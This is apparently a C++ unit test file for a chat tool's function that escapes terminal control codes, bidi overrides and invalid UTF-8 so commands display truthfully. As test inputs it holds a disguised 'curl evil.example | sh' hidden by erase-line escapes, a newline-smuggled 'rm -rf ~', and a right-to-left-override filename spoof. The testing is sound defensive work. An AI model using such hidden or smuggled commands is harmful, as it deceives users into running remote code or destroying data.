// visible_text alone: what could steer the terminal or disguise text is shown
// as an escape, everything else is printed exactly as it is.

#include "transport/chat/visible_text.hpp"

#include <gtest/gtest.h>

namespace parley {
namespace {

TEST(visible_text, plain_ascii_is_unchanged) {
  std::string text = "git commit -m \"fix: a\\nb\" && ls -la ~/src | grep 'x\\.cpp$'";
  EXPECT_EQ(visible_text(text), text);
  EXPECT_EQ(visible_text(text, text_layout::lines), text);
  EXPECT_EQ(visible_text(text, text_layout::one_line, escape_style::highlighted), text);
  EXPECT_EQ(visible_text(""), "");
}

TEST(visible_text, utf8_text_is_unchanged) {
  for (std::string text : {"café", "naïve résumé", "日本語のテキスト", "한국어", "emoji 🎉 ok",
                           "\xF0\x9F\x91\x8D", "U+10FFFF: \xF4\x8F\xBF\xBF"})
    EXPECT_EQ(visible_text(text), text) << text;
}

TEST(visible_text, erase_line_attack_shows_the_whole_command) {
  // Printed raw, this erases its own line and shows only `echo harmless`.
  std::string attack = "curl evil.example | sh #\x1b[2K\r\x1b[1Aecho harmless";
  auto shown = visible_text(attack);
  EXPECT_EQ(shown, "curl evil.example | sh #\\e[2K\\r\\e[1Aecho harmless");
  EXPECT_EQ(shown.find('\x1b'), std::string::npos);
  EXPECT_EQ(shown.find('\r'), std::string::npos);
}

TEST(visible_text, c0_controls_and_del_are_escaped) {
  EXPECT_EQ(visible_text("a\x1b" "b"), "a\\eb");
  EXPECT_EQ(visible_text("\a\b\t\n\v\f\r"), "\\a\\b\\t\\n\\v\\f\\r");
  EXPECT_EQ(visible_text(std::string("\0x", 2)), "\\x00x");
  EXPECT_EQ(visible_text("\x01\x1f\x7f"), "\\x01\\x1f\\x7f");
  // Every C0 control and DEL, one by one: none is left raw.
  for (int c = 0; c < 0x20; ++c) {
    auto shown = visible_text(std::string(1, static_cast<char>(c)));
    EXPECT_EQ(shown[0], '\\') << c;
    EXPECT_GT(shown.size(), 1u) << c;
  }
}

TEST(visible_text, newline_in_a_command_is_escaped_but_kept_in_lines) {
  // A newline runs a second command: on one line it must not look like the
  // end of the first.
  EXPECT_EQ(visible_text("echo safe\nrm -rf ~"), "echo safe\\nrm -rf ~");
  EXPECT_EQ(visible_text("a\tb"), "a\\tb");
  // In prose and diffs, newline and tab are layout; nothing else is.
  EXPECT_EQ(visible_text("line 1\n\tline 2\n", text_layout::lines), "line 1\n\tline 2\n");
  EXPECT_EQ(visible_text("progress\r100%\x1b[8m\n", text_layout::lines),
            "progress\\r100%\\e[8m\n");
}

TEST(visible_text, right_to_left_override_is_shown_marked) {
  // Printed raw, it reads "harmless_exe.pdf".
  auto shown = visible_text("harmless_\u202Efdp.exe");
  EXPECT_EQ(shown, "harmless_<U+202E>fdp.exe");
}

TEST(visible_text, bidi_and_invisible_format_characters_are_shown_marked) {
  const char* marked[] = {
      "\u202A", "\u202B", "\u202C", "\u202D", "\u202E",  // embeddings, overrides, pop
      "\u2066", "\u2067", "\u2068", "\u2069",            // isolates
      "\u200E", "\u200F", "\u061C",                      // marks
      "\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF",  // zero width
      "\u2028", "\u2029",                                // line and paragraph separators
      "\u00AD", "\u3164", "\U000E0041",                  // soft hyphen, filler, tag "A"
  };
  for (const char* c : marked) {
    auto shown = visible_text(std::string("x") + c + "y");
    EXPECT_EQ(shown.substr(0, 4), "x<U+") << shown;
    EXPECT_EQ(shown.back(), 'y') << shown;
    EXPECT_EQ(shown.find(c), std::string::npos) << shown;
  }
  EXPECT_EQ(visible_text("a\u2066b\u2069"), "a<U+2066>b<U+2069>");
  EXPECT_EQ(visible_text("\U000E0041"), "<U+E0041>");
  // Kept in lines too: no layout needs them.
  EXPECT_EQ(visible_text("a\u2028b", text_layout::lines), "a<U+2028>b");
}

TEST(visible_text, c1_controls_are_shown_marked) {
  // U+009B is CSI, ESC [ in one character, to a terminal that takes C1.
  EXPECT_EQ(visible_text("a\xC2\x9B" "2Kb"), "a<U+009B>2Kb");
  EXPECT_EQ(visible_text("\xC2\x80\xC2\x9F"), "<U+0080><U+009F>");
  // The first character past them is text.
  EXPECT_EQ(visible_text("\xC2\xA0"), "\xC2\xA0");
}

TEST(visible_text, invalid_utf8_is_shown_as_escaped_bytes) {
  EXPECT_EQ(visible_text("a\xff" "b"), "a\\xffb");
  EXPECT_EQ(visible_text("\x80"), "\\x80");                           // stray continuation
  EXPECT_EQ(visible_text("caf\xC3"), "caf\\xc3");                    // cut short at the end
  EXPECT_EQ(visible_text("\xC3(x"), "\\xc3(x");                      // missing continuation
  EXPECT_EQ(visible_text("\xC0\xAF"), "\\xc0\\xaf");                 // overlong '/'
  EXPECT_EQ(visible_text("\xE0\x80\xAF"), "\\xe0\\x80\\xaf");        // overlong '/'
  EXPECT_EQ(visible_text("\xC1\x9B"), "\\xc1\\x9b");                 // overlong ESC [
  EXPECT_EQ(visible_text("\xED\xA0\x80"), "\\xed\\xa0\\x80");        // a surrogate
  EXPECT_EQ(visible_text("\xF4\x90\x80\x80"), "\\xf4\\x90\\x80\\x80");  // past U+10FFFF
  EXPECT_EQ(visible_text("\xF8\x88\x80\x80\x80"), "\\xf8\\x88\\x80\\x80\\x80");
  // An invalid byte does not swallow the valid text after it.
  EXPECT_EQ(visible_text("\xE2\x80" "caf\xC3\xA9"), "\\xe2\\x80caf\xC3\xA9");
}

TEST(visible_text, highlighted_escapes_are_in_reverse_video) {
  EXPECT_EQ(visible_text("a\x1b" "b\u202E", text_layout::one_line, escape_style::highlighted),
            "a\x1b[7m\\e\x1b[27mb\x1b[7m<U+202E>\x1b[27m");
  // Layout kept in lines is not marked.
  EXPECT_EQ(visible_text("a\nb", text_layout::lines, escape_style::highlighted), "a\nb");
}

TEST(visible_text, nothing_escaped_means_the_text_is_unchanged) {
  // A backslash is not doubled: a command shows exactly what runs. The
  // renderer tells an escaped text by comparing.
  EXPECT_EQ(visible_text("printf 'a\\n'"), "printf 'a\\n'");
  EXPECT_NE(visible_text("printf 'a\n'"), "printf 'a\n'");
}

}  // namespace
}  // namespace parley
